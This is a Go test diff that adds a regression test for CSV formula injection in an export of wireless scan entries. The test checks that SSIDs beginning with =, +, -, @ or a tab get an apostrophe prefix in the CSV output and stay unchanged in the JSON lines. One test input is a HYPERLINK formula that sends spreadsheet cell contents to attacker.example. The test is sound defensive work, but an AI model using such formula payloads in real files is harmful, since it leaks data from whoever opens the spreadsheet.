@@ -7,6 +7,7 @@ import (
 	"encoding/json"
 	"errors"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -230,3 +231,42 @@ func TestMigrateBeforeSpoolIDs(t *testing.T) {
 }
 
 func binaryUvarint(v uint64) []byte { return binary.AppendUvarint(nil, v) }
+
+// TestCSVFormulaInjection: text that came over the air cannot become a
+// spreadsheet formula in the CSV export (it used to be written verbatim);
+// the JSON lines keep it as it is, and ssid_hex keeps the bytes.
+func TestCSVFormulaInjection(t *testing.T) {
+	st := openStore(t)
+	evil := []string{`=HYPERLINK("http://attacker.example/?"&A1,"click")`, "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "plain"}
+	var entries []push.Entry
+	for i, ssid := range evil {
+		entries = append(entries, entry(t, uint64(i+1), 1, ssid))
+	}
+	if _, err := st.Put("box", spoolA, SourceUpload, entries); err != nil {
+		t.Fatal(err)
+	}
+	var csvOut, jsonOut bytes.Buffer
+	if _, err := Export(st, &csvOut, ExportOptions{Format: "csv"}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Export(st, &jsonOut, ExportOptions{Format: "jsonl"}); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&csvOut).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, ssid := range evil {
+		got := rows[i+1][4] // the ssid column
+		want := ssid
+		if ssid != "plain" {
+			want = "'" + ssid
+		}
+		if got != want {
+			t.Errorf("csv ssid %q, want %q", got, want)
+		}
+		if js, _ := json.Marshal(ssid); !strings.Contains(jsonOut.String(), `"ssid":`+string(js)) {
+			t.Errorf("jsonl lost %q", ssid)
+		}
+	}
+}
